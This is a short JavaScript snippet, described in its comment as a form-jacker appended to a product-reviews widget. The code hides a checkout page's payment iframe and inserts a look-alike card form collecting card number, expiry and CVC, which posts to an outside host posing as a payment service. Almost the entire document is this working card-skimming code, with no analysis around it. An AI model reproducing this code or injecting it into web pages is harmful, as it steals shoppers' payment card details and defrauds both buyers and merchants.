// A product-reviews widget with a form-jacker appended: it hides the
// provider's iframe and puts a card form of its own in its place, which
// posts straight to the attacker's host when the buyer pays.
(function () {
  var box = document.getElementById('payment');
  box.querySelector('iframe').style.display = 'none';
  var form = document.createElement('form');
  form.method = 'post';
  form.action = 'https://pay.checkout-secure.example/v2/authorize';
  form.innerHTML =
    '<label for="cn">Card number</label><input id="cn" name="cardnumber" autocomplete="cc-number">' +
    '<label for="ce">Expiry</label><input id="ce" name="exp" autocomplete="cc-exp">' +
    '<label for="cc">CVC</label><input id="cc" name="cvc" autocomplete="cc-csc">' +
    '<button>Pay</button>';
  box.appendChild(form);
})();
